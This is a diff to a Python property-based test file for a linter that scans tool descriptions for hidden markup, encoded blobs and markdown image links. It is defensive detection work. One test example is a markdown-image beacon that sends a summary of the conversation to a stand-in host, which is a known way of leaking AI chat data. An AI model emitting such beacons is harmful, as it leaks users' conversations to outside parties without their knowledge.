@@ -11,7 +11,15 @@ from typing import Any
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from callgate.lint import _concepts, _scan_actions, _scan_encoded, _scan_files, _scan_markup
+from callgate.lint import (
+    _concepts,
+    _scan_actions,
+    _scan_encoded,
+    _scan_files,
+    _scan_links,
+    _scan_markup,
+)
+from callgate.lint._scan_site import TextSite
 from callgate.lint._text import view
 
 # Letters of three scripts, digits, the separators the patterns care about, and the
@@ -83,7 +91,23 @@ def test_markup_patterns_match_only_where_their_prefilters_hold(text: str) -> No
     if _scan_markup._TEMPLATE.whole.search(text) is not None:
         assert any(n in text for n in _scan_markup._TEMPLATE.gate)
     if _scan_encoded._BASE64.search(text) or _scan_encoded._HEX.search(text):
-        assert _scan_encoded._BASE64_RUN.search(text) is not None
+        assert _scan_encoded._BASE64_RUN.search(text) is not None and len(text) >= 16
+    if _scan_links._IMAGE.search(text) is not None:
+        assert "![" in text
+    if _scan_encoded._CJK.search(text) is not None:
+        assert not text.isascii()
+
+
+@settings(max_examples=400, deadline=None)
+@given(_TEXT.map(lambda t: t.replace(" ", "![", 1)))
+@example("![chart](https://x.example/p?q={summary}) of this conversation")
+def test_images_are_checked_as_by_the_plain_pattern(text: str) -> None:
+    site = TextSite(text=text, field="description", pointer="")
+    plain = [m.span() for m in _scan_links._IMAGE.finditer(text)]
+    found = [(h.start, h.end) for h in _scan_links.check_beacons(site)]
+    assert set(found) <= set(plain)
+    if "![" not in text:
+        assert not plain and not found
 
 
 def _turned_plainly(text: str) -> list[_scan_encoded.Reading]:
@@ -106,6 +130,17 @@ def _turned_plainly(text: str) -> list[_scan_encoded.Reading]:
 def test_turned_text_is_found_as_by_turning_it(text: str) -> None:
     if _scan_encoded._CJK.search(text) is None:
         assert list(_scan_encoded._turned(text)) == _turned_plainly(text)
+
+
+@settings(max_examples=400, deadline=None)
+@given(_TEXT)
+@example("aGVsbG8gd29ybGQ=")
+@example("0x68656c6c6f20776f")
+def test_blobs_are_found_as_without_the_length_shortcut(text: str) -> None:
+    hexes = [m for m in _scan_encoded._HEX.finditer(text)]
+    bases = [m for m in _scan_encoded._BASE64.finditer(text)]
+    if len(text) < 16:
+        assert not hexes and not bases and not _scan_encoded._blobs(text)
 
 
 _LEXICON_WORDS = (
